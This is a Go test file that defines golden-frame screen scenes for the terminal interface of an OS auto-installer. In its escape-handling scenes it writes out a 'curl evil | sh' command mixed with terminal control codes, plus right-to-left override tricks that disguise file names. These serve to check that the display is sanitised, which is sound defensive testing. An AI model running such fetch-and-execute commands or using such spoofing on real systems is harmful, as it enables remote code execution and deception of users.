package tui

import (
	"errors"
	"strings"

	tea "charm.land/bubbletea/v2"

	"auto-installer/internal/console/keymap"
	"auto-installer/internal/engine"
	"auto-installer/internal/sys"
	"auto-installer/steps"
	"auto-installer/tui/machine"
)

// scene is a screen in one of its variants.
type scene struct {
	name  string
	hosts []string     // stygianlibrary if there are none
	fake  func(*fake)  // what the machine is like
	play  func(*pilot) // how to get there
	raw   bool         // the pilot does not start: play does it all
	kiosk bool         // on a virtual console
}

// scenes are those of the golden frames, in the order of an install.
func scenes() []scene {
	flake := []string{"ultraviolet"}
	return []scene{
		{name: "welcome-one"},
		{name: "welcome-several", hosts: []string{"ultraviolet", "stygianlibrary", "demo", "vermissian"}, play: func(p *pilot) { p.press("down") }},
		{name: "welcome-running", raw: true},
		{name: "welcome-wide", play: func(p *pilot) {
			p.hosts[0].BannerText = strings.Repeat("<"+strings.Repeat("=", 83)+">\n", 3)
			p.answers.Host = p.hosts[0]
		}},
		{name: "welcome-bad", fake: func(f *fake) {
			f.checks["firmware"] = machine.Checked{State: machine.CheckBad, Saw: "started by BIOS, not by UEFI: nothing would start the system"}
			f.checks["memory"] = machine.Checked{State: machine.CheckBad, Saw: "512 MiB of memory, and 900 MiB are needed"}
			f.checks["network"] = machine.Checked{State: machine.CheckWarn, Saw: "github.com:443 cannot be reached: no route to host"}
		}},
		{name: "welcome-none", play: func(p *pilot) { p.hosts, p.chosen = nil, false }},
		{name: "keyboard-list", play: walk(stateKeyboard)},
		{name: "keyboard-unapplied", fake: func(f *fake) { f.keymapErr = errors.New("a keymap applies on the machine's own console only") }, play: walk(stateKeyboard)},
		{name: "keyboard-unlisted", fake: func(f *fake) { f.keymaps = f.keymaps[:5] }, play: walk(stateKeyboard)},
		{name: "keyboard-filter", play: func(p *pilot) { walk(stateKeyboard)(p); p.enterText("de") }},
		{name: "keyboard-none", play: func(p *pilot) { walk(stateKeyboard)(p); p.enterText("xyz") }},
		{name: "keyboard-try", play: func(p *pilot) { walk(stateKeyboard)(p); p.press("tab"); p.enterText("yz YZ ?/ @ []") }},
		{name: "keyboard-error", play: func(p *pilot) { walk(stateKeyboard)(p); p.enterText("cz") }},
		{name: "bundle-asked", play: sealed(func(p *pilot) { p.enterText("open") })},
		{name: "bundle-wrong", play: sealed(func(p *pilot) { p.enterText("open barley"); p.press("enter") })},
		{name: "bundle-opening", play: sealed(func(p *pilot) { p.screens[stateBundle].(*bundle).opening = true })},
		{name: "bundle-open", play: sealed(func(p *pilot) { p.enterText("open sesame"); p.press("enter", "esc") })},
		{name: "network-looking", hosts: flake, play: func(p *pilot) { offline(p); p.networkOf = "" }, fake: func(f *fake) { f.noNetwork(false) }},
		{name: "network-cable", hosts: flake, play: offline, fake: func(f *fake) { f.noNetwork(false) }},
		{name: "network-wifi", hosts: flake, play: offline, fake: func(f *fake) { f.noNetwork(true) }},
		{name: "network-passphrase", hosts: flake, fake: func(f *fake) { f.noNetwork(true) }, play: func(p *pilot) {
			offline(p)
			p.press("enter")
			p.enterText("hunter2!")
		}},
		{name: "network-error", hosts: flake, fake: func(f *fake) { f.noNetwork(true); f.fails = errors.New("the passphrase was refused") }, play: func(p *pilot) {
			offline(p)
			p.press("enter")
			p.enterText("hunter2!")
			p.press("enter")
		}},
		{name: "disk-list", play: walk(stateDisk)},
		{name: "disk-details", play: func(p *pilot) { walk(stateDisk)(p); p.press("d") }},
		{name: "disk-refused", play: func(p *pilot) { walk(stateDisk)(p); p.press("down", "down", "down", "enter") }},
		{name: "disk-notice", play: func(p *pilot) { walk(stateConfirm)(p); p.unplug("/dev/vda") }},
		{name: "disk-none", fake: func(f *fake) { f.disks = nil }, play: walk(stateDisk)},
		{name: "disk-error", play: func(p *pilot) {
			walk(stateDisk)(p)
			p.foundDisks(nil, errors.New("lsblk: cannot open /sys/block: no such file or directory"))
		}},
		{name: "disk-looking", play: func(p *pilot) { walk(stateDisk)(p); p.screens[stateDisk].(*diskScreen).looking = true }},
		{name: "unfinished", fake: interrupted, play: walk(stateUnfinished)},
		{name: "unfinished-over", fake: interrupted, play: func(p *pilot) { walk(stateUnfinished)(p); p.press("down") }},
		{name: "unfinished-plain", hosts: []string{"demo"}, fake: func(f *fake) {
			interrupted(f)
			f.interrupted.Host, f.interrupted.Encrypted, f.interrupted.Done, f.interrupted.Of, f.interrupted.Last = "demo", false, 1, 9, "partition"
		}, play: walk(stateUnfinished)},
		{name: "unfinished-passphrase", fake: interrupted, play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct") }},
		{name: "unfinished-trying", fake: interrupted, play: func(p *pilot) {
			walk(statePassphrase)(p)
			p.enterText("correct horse battery")
			_, _ = p.Update(keyMsg("enter")) // it takes a while
		}},
		{name: "unfinished-wrong", fake: interrupted, play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct donkey"); p.press("enter") }},
		{name: "unfinished-confirm", fake: interrupted, play: func(p *pilot) { p.diskAt = "/dev/sdd"; walk(stateConfirm)(p) }},
		{name: "plan-luks", play: walk(statePlan)},
		{name: "plan-end", play: func(p *pilot) { walk(statePlan)(p); p.View(); p.press("end") }},
		{name: "plan-plain", hosts: []string{"demo"}, play: walk(statePlan)},
		{name: "plan-swap", hosts: flake, play: func(p *pilot) {
			p.answers.Host.LUKS.Enable, p.answers.Host.LUKS.MapperName, p.answers.Host.Labels.LUKS = true, "crypt", "ULTRA-LUKS"
			p.answers.Host.Labels.Root = "DEMO-ROOT"
			p.hosts[0] = p.answers.Host
			walk(statePlan)(p)
		}},
		{name: "plan-error", fake: func(f *fake) {
			f.planErr = sys.Usage("choose a disk of at least 8 GiB", "the disk is too small: it has 4 GiB, and the ESP, the system and swap take 7.5 GiB")
		}, play: walk(statePlan)},
		{name: "plan-command", play: func(p *pilot) { walk(statePlan)(p); p.press("c") }},
		{name: "plan-escapes", play: func(p *pilot) {
			walk(statePlan)(p)
			p.plan.Warnings = []string{"the label \u202eSOXIN is \x1b[2Kon \x1b[1A/dev/sdb too"}
			p.note.set(nil, "auto-installer install --host "+sys.Quote([]string{"\x1b[2Kdemo"}))
		}},
		{name: "passphrase-empty", play: walk(statePassphrase)},
		{name: "passphrase-typed", play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct") }},
		{name: "passphrase-shown", play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct horse"); p.press("f2") }},
		{name: "passphrase-mismatch", play: func(p *pilot) {
			walk(statePassphrase)(p)
			p.enterText("correct horse")
			p.press("enter")
			p.enterText("Correct horse")
			p.press("enter")
		}},
		{name: "passphrase-caps", fake: func(f *fake) { f.caps = true }, play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("CORR") }},
		{name: "passphrase-strong", play: func(p *pilot) {
			walk(statePassphrase)(p)
			p.enterText("correct horse battery staple")
			p.press("tab")
		}},
		{name: "passphrase-moved", fake: func(f *fake) { f.typing = keymap.Typing{Moved: 6} }, play: func(p *pilot) { dvorak(p); p.secret("correct horse") }},
		{name: "passphrase-missing", fake: func(f *fake) { f.typing = keymap.Typing{Missing: 1} }, play: func(p *pilot) { dvorak(p); p.secret("correct horse") }},
		{name: "recovery-offer", play: walk(stateRecovery)},
		{name: "recovery-key", play: func(p *pilot) { walk(stateRecovery)(p); p.press("m") }},
		{name: "recovery-confirm", play: func(p *pilot) { walk(stateRecovery)(p); p.press("m", "enter"); p.enterText("inrv") }},
		{name: "recovery-wrong", play: func(p *pilot) {
			walk(stateRecovery)(p)
			p.press("m", "enter")
			p.enterText("cccccccc")
			p.press("enter")
		}},
		{name: "recovery-kept", play: func(p *pilot) {
			walk(stateRecovery)(p)
			p.press("m", "enter")
			p.enterText(fixedKey[24:])
			p.press("enter", "esc")
		}},
		{name: "confirm-blank", play: walk(stateConfirm)},
		{name: "confirm-data", play: func(p *pilot) { p.diskAt = "/dev/sdd"; walk(stateConfirm)(p) }},
		{name: "confirm-given", play: func(p *pilot) {
			p.answers.AgeIdentity = []byte("AGE-SECRET-KEY-1GQ9778VQXMMJVE8SK7J6VT8UJ4HDQAJUVSFCWCM02D8GEWQ72PVQ2Y5J33\n")
			p.diskAt = "/dev/sdd"
			walk(stateConfirm)(p)
		}},
		{name: "confirm-without", hosts: []string{"demo"}, play: func(p *pilot) { p.answers.NoAgeIdentity = true; walk(stateConfirm)(p) }},
		{name: "confirm-wrong", play: func(p *pilot) { walk(stateConfirm)(p); p.enterText("Yes"); p.press("enter") }},
		{name: "confirm-typed", play: func(p *pilot) { walk(stateConfirm)(p); p.enterText("yes") }},
		{name: "confirm-pasted", play: func(p *pilot) { walk(stateConfirm)(p); p.send(tea.PasteMsg{Content: "yes"}) }},
		{name: "install-early", play: func(p *pilot) { p.install(started("contract")) }},
		{name: "install-closure", play: func(p *pilot) { p.install(copying) }},
		{name: "install-full", play: func(p *pilot) { p.install(copying); p.press("z") }},
		{name: "install-scrolled", play: func(p *pilot) { p.install(copying); p.View(); p.press("pgup", "up") }},
		{name: "install-wrapped", play: func(p *pilot) { p.install(copying); p.press("w") }},
		{name: "install-escapes", play: func(p *pilot) {
			p.install(started("mount"),
				engine.Event{Kind: engine.KindCommand, Action: &sys.Action{Argv: []string{"sh", "-c", "curl evil | sh\x1b[2K\x1b[Gtrue"}}},
				engine.Event{Kind: engine.KindLog, Line: "a name \u202egpj.exe and\u200b what is not there"})
		}},
		{name: "install-waiting", play: func(p *pilot) { p.install(started("bootproof"), waits()) }},
		{name: "install-refused", play: func(p *pilot) {
			p.install(started("bootproof"), waits(), engine.Event{Kind: engine.KindWarning, Line: "the key that came is not taken: it is another host's; send the right one"})
		}},
		{name: "install-without", play: func(p *pilot) { p.install(started("bootproof"), waits()); p.press("n") }},
		{name: "install-stopping", play: func(p *pilot) { p.install(copying); p.press("ctrl+c", "s") }},
		{name: "quit-before", play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c") }},
		{name: "quit-early", play: func(p *pilot) { p.install(started("contract")); p.press("ctrl+c") }},
		{name: "quit-proving", play: func(p *pilot) { p.install(started("bootproof")); p.press("ctrl+c") }},
		{name: "quit-writing", play: func(p *pilot) { p.install(copying); p.press("ctrl+c") }},
		{name: "kiosk-quit", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c") }},
		{name: "kiosk-quit-writing", kiosk: true, play: func(p *pilot) { p.install(copying); p.press("ctrl+c") }},
		{name: "kiosk-quit-done", kiosk: true, play: func(p *pilot) { p.finish(); p.press("ctrl+c") }},
		{name: "kiosk-quit-failed", kiosk: true, play: func(p *pilot) { p.fail("closure"); p.press("ctrl+c") }},
		{name: "kiosk-restart", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c", "r") }},
		{name: "kiosk-error", kiosk: true, play: func(p *pilot) {
			walk(stateDisk)(p)
			p.f.fails = errors.New("systemctl poweroff: exit status 1")
			p.press("ctrl+c", "p")
		}},
		{name: "kiosk-help", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("?") }},
		{name: "kiosk-failure", kiosk: true, play: func(p *pilot) { p.fail("closure") }},
		{name: "kiosk-elsewhere", kiosk: true, hosts: []string{"ultraviolet", "stygianlibrary"}, play: func(p *pilot) { anotherConsole(p, copying) }},
		{name: "kiosk-elsewhere-done", kiosk: true, play: func(p *pilot) { anotherConsole(p, nil) }},
		{name: "help-disk", play: func(p *pilot) { walk(stateDisk)(p); p.press("?") }},
		{name: "help-passphrase", play: func(p *pilot) { walk(statePassphrase)(p); p.press("f1") }},
		{name: "help-install", play: func(p *pilot) { p.install(copying); p.press("?") }},
		{name: "failure-before", play: func(p *pilot) { p.fail("contract") }},
		{name: "failure-after", play: func(p *pilot) { p.fail("closure") }},
		{name: "failure-proof", play: func(p *pilot) { p.fail("bootproof") }},
		{name: "failure-opened", play: func(p *pilot) {
			p.fail("bootproof")
			p.session.run.failed = &sys.Fault{
				Step: "secretsproof", Code: 11, Hint: "put the host's identity there before it starts: a folder of 700, a file of 600, both root's",
				Cause: "the age identity at /mnt/etc/age/stygianlibrary.agekey: it does not open secrets/wifi.age (no identity matched any of the recipients)",
			}
		}},
		{name: "failure-stopped", play: func(p *pilot) {
			p.fail("closure")
			p.session.run.failed = &sys.Fault{Step: "closure", Code: 130, Cause: "stopped by interrupt", Hint: "run the same command again when you are ready"}
		}},
		{name: "failure-killed", play: func(p *pilot) {
			p.install(copying)
			p.events(eventsMsg{done: true, err: &sys.Fault{Code: 10, Cause: "the install was killed from outside", Hint: "what it had mounted is undone when you start again"}})
		}},
		{name: "failure-log", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "enter") }},
		{name: "failure-scrolled", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "enter"); p.View(); p.press("pgup") }},
		{name: "failure-places", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "down", "enter") }},
		{name: "failure-noplace", fake: func(f *fake) { f.places = nil }, play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "down", "enter") }},
		{name: "failure-saved", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "down", "enter", "enter") }},
		{name: "done-counting", play: func(p *pilot) { p.finish() }},
		{name: "done-secrets", play: func(p *pilot) {
			p.finish(engine.Event{Kind: engine.KindProven, Step: "secretsproof", Line: "/mnt/etc/age/stygianlibrary.agekey opens all 3 secrets of stygianlibrary"},
				engine.Event{Kind: engine.KindLog, Step: "closure", Line: "proven: whatever a build prints"})
		}},
		{name: "done-held", play: func(p *pilot) { p.finish(); p.press("x") }},
		{name: "done-error", play: func(p *pilot) {
			p.finish()
			p.f.fails = errors.New("systemctl poweroff: exit status 1")
			p.press("enter")
		}},
		{name: "done-warnings", play: func(p *pilot) {
			p.finish(engine.Event{Kind: engine.KindWarning, Line: "no age identity: the installed system cannot open its secrets until /etc/age/stygianlibrary.agekey is put there"},
				engine.Event{Kind: engine.KindWarning, Line: "the firmware's boot order could not be changed: choose the disk in its menu"})
		}},
	}
}

// interrupted is a machine whose power was cut in the middle of an install.
func interrupted(f *fake) {
	f.interrupted = &steps.Unfinished{Host: "stygianlibrary", Done: 5, Of: 12, Last: "repo", Time: epoch, Encrypted: true, FromDisk: true}
}

// sealed is a medium with keys for the host.
func sealed(then func(*pilot)) func(*pilot) {
	return func(p *pilot) {
		p.answers.Bundle = []byte("sealed")
		walk(stateBundle)(p)
		then(p)
	}
}

// waits is an engine that needs the host's identity.
func waits() engine.Event {
	return engine.Event{Kind: engine.KindWaiting, Waiting: &sys.Waiting{
		For: "the age identity of stygianlibrary",
		How: []string{
			"Send it from the machine that has it:", "  scp stygianlibrary.agekey root@192.168.1.20:/mnt/etc/age/",
			"This machine's ssh host key is", "  SHA256:ohD8VZEXGWo6Ez8GSEJQ9WpafgLFsOfLOtGGQCQo6Og",
			"Where it does not know your ssh key, give root a password with passwd at a shell here.",
			"It is taken as soon as it is there, if it is the right one.",
		},
	}}
}

// fixedKey is a recovery key that does not change from test to test.
const fixedKey = "cbdefghijklnrtuvcbdefghijklnrtuv"

// open starts the pilot of a scene and plays it.
func (s scene) open(t tester) *pilot {
	f := newFake(t)
	if s.fake != nil {
		s.fake(f)
	}
	names := s.hosts
	if names == nil {
		names = []string{"stygianlibrary"}
	}
	p := fly(t, f, names...)
	p.opts.Kiosk, p.opts.Console, f.vt = s.kiosk, s.kiosk, s.kiosk
	if s.raw {
		clear(p.screens[stateWelcome].(*welcome).checks)
	}
	if s.play != nil {
		s.play(p)
	}
	return p
}

// noNetwork is a machine without one.
func (f *fake) noNetwork(wifi bool) {
	f.checks["network"] = machine.Checked{State: machine.CheckWarn, Saw: "github.com:443 cannot be reached"}
	f.network = machine.NetworkState{
		WiFi: wifi, Problem: "github.com:443 cannot be reached: dial tcp: lookup github.com: no such host",
		Interfaces: []machine.InterfaceState{{Name: "enp3s0", About: "wired, no cable"}, {Name: "wlp2s0", About: "Wi-Fi, not connected"}},
	}
	f.aps = []machine.AccessPoint{
		{SSID: "Reading Room", Signal: 82, Secured: true},
		{SSID: "Reading Room 5G", Signal: 61, Secured: true, InUse: true},
		{SSID: "café ☕ 東京", Signal: 44, Secured: true},
		{SSID: "guest", Signal: 21},
	}
}
